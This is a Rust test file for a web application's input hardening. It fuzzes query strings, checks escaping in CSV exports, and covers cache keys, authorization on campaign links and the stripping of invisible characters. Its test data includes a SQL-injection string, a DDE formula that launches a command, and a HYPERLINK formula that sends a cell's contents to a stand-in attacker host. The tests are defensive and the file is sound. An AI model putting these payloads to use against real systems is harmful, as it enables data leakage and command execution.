//! Issue 15, inputs: page numbers anyone can type, spreadsheet exports, invisible characters,
//! the SPIRAL links, the anonymous page cache and message arguments.

use proptest::prelude::*;
use proptest::strategy::ValueTree;
use proptest::test_runner::TestRunner;
use reqwest::StatusCode;
use serde_json::{Value, json};

use crate::builders::{PASSWORD, ProducerApp, signed_out_producer_app};
use crate::helpers::{DEMO_PASSWORD, TestApp};

/// Values a visitor may put in a query string: numbers at and past every integer's limits,
/// signs, decimals, words, scripts, invisible characters and search operators.
fn query_value() -> impl Strategy<Value = String> {
    prop_oneof![
        any::<u64>().prop_map(|n| n.to_string()),
        any::<i64>().prop_map(|n| n.to_string()),
        (0u64..30).prop_map(|n| n.to_string()),
        Just("9223372036854775807".to_owned()),
        Just("9223372036854775808".to_owned()),
        Just("18446744073709551615".to_owned()),
        Just("18446744073709551616".to_owned()),
        Just("-1".to_owned()),
        Just("0".to_owned()),
        Just("1e9".to_owned()),
        Just("1.5".to_owned()),
        Just(String::new()),
        Just("٣".to_owned()),
        Just("\u{0}".to_owned()),
        Just("\"*NEAR(a b) OR".to_owned()),
        Just("') OR 1=1 --".to_owned()),
        Just("a & b | !c:*".to_owned()),
        Just("\u{202E}evil\u{200B}".to_owned()),
        "\\PC{0,40}",
        "[a-z0-9_%\\-]{0,12}",
    ]
}

fn query_key(known: Vec<String>) -> impl Strategy<Value = String> {
    let known = if known.is_empty() {
        vec!["page".to_owned()]
    } else {
        known
    };
    prop_oneof![
        4 => proptest::sample::select(known),
        2 => proptest::sample::select(vec!["page".to_owned(), "per_page".to_owned()]),
        1 => "[a-z_\\[\\]]{1,10}",
    ]
}

/// `n` query strings made of the endpoint's own parameters, page numbers and strangers.
fn queries(runner: &mut TestRunner, known: &[String], n: usize) -> Vec<Vec<(String, String)>> {
    let strategy = proptest::collection::vec((query_key(known.to_vec()), query_value()), 0..6);
    (0..n)
        .map(|_| strategy.new_tree(runner).expect("a query string").current())
        .collect()
}

/// A demo value for a path parameter of `path`.
fn demo_path(path: &str) -> String {
    let slug = if path.starts_with("/territories/") {
        "braine-l-alleud"
    } else {
        "jette-sidi-bibi"
    };
    path.replace("{slug}", slug)
        .replace("{id}", "1")
        .replace("{reference}", "none")
}

/// Every GET operation of the API (the lists, and the others, path parameters filled with
/// the demo's), with the names of its query parameters, from the OpenAPI document.
async fn api_lists(app: &TestApp) -> Vec<(String, Vec<String>)> {
    let (status, doc) = app.get_json("/api/v1/openapi.json", None).await;
    assert_eq!(status, StatusCode::OK);
    let mut out = Vec::new();
    for (path, item) in doc["paths"].as_object().expect("paths") {
        let Some(get) = item.get("get") else { continue };
        let params = get["parameters"]
            .as_array()
            .map(|ps| {
                ps.iter()
                    .filter(|p| p["in"] == "query")
                    .filter_map(|p| p["name"].as_str().map(str::to_owned))
                    .collect()
            })
            .unwrap_or_default();
        out.push((format!("/api/v1{}", demo_path(path)), params));
    }
    out
}

#[tokio::test]
async fn hardening_inputs_any_query_string_on_any_list_gives_no_server_error() {
    let app = TestApp::spawn_demo().await;
    let token = app.admin_token().await;
    app.login("root@example.org", "admin password").await;
    let mut endpoints: Vec<(String, Vec<String>, bool)> = api_lists(&app)
        .await
        .into_iter()
        .map(|(p, q)| (p, q, true))
        .collect();
    let api_count = endpoints.len();
    assert!(api_count >= 20, "the API's lists were found: {endpoints:?}");
    let words = |ws: &[&str]| ws.iter().map(|w| (*w).to_owned()).collect::<Vec<_>>();
    for (path, params) in [
        (
            "/catalogue",
            words(&[
                "q",
                "partnership",
                "territory",
                "category",
                "label",
                "sort",
                "lang",
            ]),
        ),
        (
            "/practices",
            words(&["q", "topic", "pillar", "country", "territory", "lang"]),
        ),
        ("/admin/outbox", words(&["status"])),
        ("/impact", words(&["year"])),
        ("/impact.csv", words(&["year"])),
        ("/partnerships/jette-sidi-bibi/impact", words(&["year"])),
    ] {
        endpoints.push((path.to_owned(), params, false));
    }
    let mut runner = TestRunner::deterministic();
    let per_endpoint = 30;
    let mut cases = 0;
    for (path, known, api) in &endpoints {
        for query in queries(&mut runner, known, per_endpoint) {
            let qs = url::form_urlencoded::Serializer::new(String::new())
                .extend_pairs(&query)
                .finish();
            let mut req = app.client.get(app.url(&format!("{path}?{qs}")));
            if *api {
                req = req.bearer_auth(&token);
            }
            let res = req
                .send()
                .await
                .unwrap_or_else(|e| panic!("GET {path} {query:?}: connection dropped: {e}"));
            assert!(
                !res.status().is_server_error(),
                "GET {path} {query:?}: {}",
                res.status()
            );
            cases += 1;
        }
    }
    println!(
        "property test: {} operations ({api_count} API, {} pages), {cases} cases",
        endpoints.len(),
        endpoints.len() - api_count
    );
    // The issue's own request: the largest page number is the last page there can be, empty.
    for path in [
        "/catalogue",
        "/practices",
        "/api/v1/products",
        "/api/v1/practices",
    ] {
        let res = app
            .client
            .get(app.url(&format!(
                "{path}?page=9223372036854775807&per_page=9223372036854775807"
            )))
            .send()
            .await
            .expect("the connection holds");
        assert_eq!(res.status(), StatusCode::OK, "{path}");
        if path.starts_with("/api") {
            let body: Value = res.json().await.expect("json");
            assert_eq!(body["items"].as_array().map(Vec::len), Some(0), "{path}");
            assert_eq!(body["per_page"], 100, "{path}");
        }
    }
}

/// Books the stay on `trip` (its page) for `travellers` (one per line) as a new traveller; the
/// departure.
async fn book_stay(app: &TestApp, trip: &str, travellers: &str) -> i64 {
    app.verified_token("traveller@example.org").await;
    let traveller = app.visitor("traveller@example.org", PASSWORD).await;
    let (_, page) = traveller.page(trip).await;
    // The first departure the traveller has not booked yet.
    for action in page
        .split("action=\"/departures/")
        .skip(1)
        .filter_map(|s| s.split('"').next())
        .map(|s| format!("/departures/{s}"))
    {
        let res = traveller
            .submit(
                trip,
                &action,
                &[
                    ("travellers", travellers),
                    ("contact_email", "famille@example.org"),
                    ("dietary", "@SUM(1+1)*cmd|' /C calc'!A0"),
                ],
            )
            .await;
        if res.status() == StatusCode::SEE_OTHER {
            return action.split('/').nth(2).unwrap().parse().unwrap();
        }
    }
    panic!("no departure to book");
}

#[tokio::test]
async fn hardening_inputs_a_traveller_named_like_a_formula_stays_text_in_the_hosts_csv() {
    let app = TestApp::spawn().await;
    let partnership = app.partnership().await;
    let (trip, _) = app
        .summer_stay_in_morocco(&partnership.coordinator_token, "Arganeraie")
        .await;
    let departure = book_stay(
        &app,
        &format!("/trips/{}", trip["slug"].as_str().unwrap()),
        "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Voir\")\n-2+3\nBen Janssens",
    )
    .await;
    let host = app.visitor(&partnership.coordinator, PASSWORD).await;
    let res = host
        .get(&format!("/host/departures/{departure}/travellers.csv"))
        .await;
    assert_eq!(res.status(), StatusCode::OK);
    let bytes = res.bytes().await.unwrap();
    let text = String::from_utf8(bytes[3..].to_vec()).unwrap();
    let mut reader = ::csv::ReaderBuilder::new()
        .delimiter(b';')
        .has_headers(true)
        .from_reader(text.as_bytes());
    let rows: Vec<Vec<String>> = reader
        .records()
        .map(|r| r.unwrap().iter().map(str::to_owned).collect())
        .collect();
    let cells: Vec<&String> = rows.iter().flatten().collect();
    for c in &cells {
        let formula = c.starts_with(['=', '@', '\t', '\r'])
            || (c.starts_with(['+', '-']) && c.replace(',', ".").parse::<f64>().is_err());
        assert!(!formula, "a cell a spreadsheet would run: {c:?}\n{text}");
    }
    assert!(
        cells
            .iter()
            .any(|c| c.starts_with("'=HYPERLINK(\"http://evil.example/")),
        "the name is kept, as text: {text}"
    );
    assert!(cells.iter().any(|c| *c == "'-2+3"), "{text}");
    assert!(cells.iter().any(|c| c.starts_with("'@SUM(")), "{text}");
    assert!(cells.iter().any(|c| *c == "Ben Janssens"), "{text}");
    // Amounts are still numbers a spreadsheet adds up.
    let ben = rows.iter().find(|r| r[0] == "Ben Janssens").expect("Ben");
    for amount in &ben[ben.len() - 2..] {
        let plain = amount.replace(',', ".");
        assert!(plain.parse::<f64>().is_ok(), "{amount:?} is a number");
    }
}

#[tokio::test]
async fn hardening_inputs_the_anonymous_page_cache_ignores_unknown_query_parameters() {
    let ProducerApp {
        app,
        producer,
        token,
        ..
    } = signed_out_producer_app().await;
    // A second product at another price: the two sorts differ.
    app.product_with(producer, &token, "Amlou", json!({"price_cents": 790}))
        .await;
    let (status, first) = app.page("/catalogue?sort=price_asc").await;
    assert_eq!(status, StatusCode::OK);
    let kept = app.state.catalog.page_count().await;
    for i in 0..40 {
        let (status, page) = app
            .page(&format!(
                "/catalogue?utm_source=news{i}&sort=price_asc&zz{i}=marker{i}"
            ))
            .await;
        assert_eq!(status, StatusCode::OK);
        assert!(
            !page.contains(&format!("marker{i}")),
            "an unknown parameter is not written into the shared page"
        );
        assert_eq!(page, first, "the same page as without the stranger");
    }
    let (_, product) = app.page("/catalogue").await;
    let id = product
        .split("href=\"/products/")
        .nth(1)
        .and_then(|s| s.split('"').next())
        .expect("a product")
        .to_owned();
    for i in 0..20 {
        let (status, _) = app.page(&format!("/products/{id}?fbclid={i}")).await;
        assert_eq!(status, StatusCode::OK);
    }
    assert_eq!(
        app.state.catalog.page_count().await,
        kept + 2,
        "one page each for the filtered catalogue, the catalogue and the product"
    );
    // Parameters that shape the page still make pages of their own.
    let (_, cheap_first) = app.page("/catalogue?sort=price_desc").await;
    assert_ne!(cheap_first, first);
}

/// A campaign of the demo partnership `slug` (id, title).
async fn campaign_of(app: &TestApp, slug: &str) -> Option<(entity::CampaignId, String)> {
    use sea_orm::{ColumnTrait, EntityTrait, QueryFilter};
    let p = entity::partnership::Entity::find()
        .filter(entity::partnership::Column::Slug.eq(slug))
        .one(&app.db)
        .await
        .unwrap()
        .expect("the partnership");
    entity::campaign::Entity::find()
        .filter(entity::campaign::Column::PartnershipId.eq(p.id))
        .one(&app.db)
        .await
        .unwrap()
        .map(|c| (c.id, c.title))
}

#[tokio::test]
async fn hardening_inputs_a_coordinator_links_only_their_own_partnerships_campaigns() {
    let app = TestApp::spawn_demo().await;
    let braine = app
        .token(
            "coordinator.braine-l-alleud-tafraout-ammelne@demo.passerelle.test",
            DEMO_PASSWORD,
        )
        .await;
    let res = app
        .post_json(
            "/api/v1/territories/braine-l-alleud/spiral/criteria",
            &serde_json::json!({"family": "personal_relations", "polarity": "well_being", "text": "Se retrouver"}),
            Some(&braine),
        )
        .await;
    assert_eq!(res.status(), StatusCode::CREATED);
    let id = res.json::<Value>().await.unwrap()["id"].as_i64().unwrap();
    let link = format!("/api/v1/spiral/criteria/{id}/links");
    let (theirs, title) = campaign_of(&app, "jette-sidi-bibi")
        .await
        .expect("a campaign of another partnership");
    let res = app
        .post_json(
            &link,
            &serde_json::json!({"kind": "campaign", "target": theirs.to_string()}),
            Some(&braine),
        )
        .await;
    assert_eq!(
        res.status(),
        StatusCode::UNPROCESSABLE_ENTITY,
        "another group's campaign is not theirs to publish"
    );
    assert_eq!(app.count("spiral_links").await, 0);
    let (_, view) = app
        .get_json("/api/v1/territories/braine-l-alleud/spiral", None)
        .await;
    assert!(!view.to_string().contains(&title));
    let (_, page) = app.page("/territories/braine-l-alleud").await;
    assert!(!page.contains(&format!("/campaigns/{theirs}")));
    // Their own partnership's campaign, and a public practice sheet, are linked.
    if let Some((ours, _)) = campaign_of(&app, "braine-l-alleud-tafraout-ammelne").await {
        let res = app
            .post_json(
                &link,
                &serde_json::json!({"kind": "campaign", "target": ours.to_string()}),
                Some(&braine),
            )
            .await;
        assert_eq!(res.status(), StatusCode::CREATED);
    }
    let res = app
        .post_json(
            &link,
            &serde_json::json!({"kind": "practice", "target": "quartiers-solidaires-pour-les-aines"}),
            Some(&braine),
        )
        .await;
    assert_eq!(res.status(), StatusCode::CREATED);
}

async fn display_name_of(app: &TestApp, email: &str) -> String {
    use sea_orm::{ColumnTrait, EntityTrait, QueryFilter};
    entity::user::Entity::find()
        .filter(entity::user::Column::Email.eq(email))
        .one(&app.db)
        .await
        .unwrap()
        .expect("the account")
        .display_name
}

#[tokio::test]
async fn hardening_inputs_names_lose_hidden_direction_marks_and_are_stored_composed() {
    let app = TestApp::spawn().await;
    // Through the API: bidi overrides and isolates, a zero-width space, a decomposed é.
    let password = "pass\u{202E}word is long";
    let res = app
        .post_json(
            "/api/v1/accounts",
            &serde_json::json!({
                "email": "bidi@example.org",
                "password": password,
                "display_name": "Ev\u{202E}il\u{200B} Cafe\u{301} \u{2066}Ana\u{2069}",
            }),
            None,
        )
        .await;
    assert_eq!(res.status(), StatusCode::ACCEPTED);
    assert_eq!(
        display_name_of(&app, "bidi@example.org").await,
        "Evil Café Ana"
    );
    // The password is a secret: kept byte for byte, it still opens the account.
    let token = app.token("bidi@example.org", password).await;
    assert!(!token.is_empty());

    // Through an HTML form.
    let res = app
        .submit(
            "/signup",
            "/signup",
            &[
                (
                    "display_name",
                    "\u{202B}Zo\u{200B}e\u{301}\u{202C} Ha\u{202D}ddad",
                ),
                ("email", "form@example.org"),
                ("password", "another long password"),
                ("next", "/"),
            ],
        )
        .await;
    assert_eq!(res.status(), StatusCode::SEE_OTHER);
    assert_eq!(
        display_name_of(&app, "form@example.org").await,
        "Zoé Haddad"
    );
}

#[tokio::test]
async fn hardening_inputs_a_name_that_looks_like_a_number_is_written_as_typed() {
    use sea_orm::EntityTrait;
    let app = TestApp::spawn().await;
    for (email, name) in [
        ("decimal@example.org", "10.10"),
        ("zeros@example.org", "007"),
    ] {
        let res = app
            .post_json(
                "/api/v1/accounts",
                &serde_json::json!({"email": email, "password": "a long password", "display_name": name, "locale": "en"}),
                None,
            )
            .await;
        assert_eq!(res.status(), StatusCode::ACCEPTED);
    }
    let mails = entity::outbox_message::Entity::find()
        .all(&app.db)
        .await
        .unwrap();
    for (email, name) in [
        ("decimal@example.org", "10.10"),
        ("zeros@example.org", "007"),
    ] {
        let m = mails
            .iter()
            .find(|m| m.to_email == email)
            .expect("the welcome mail");
        assert!(
            m.body_text.contains(&format!("Hello {name},")),
            "{}",
            m.body_text
        );
    }
}
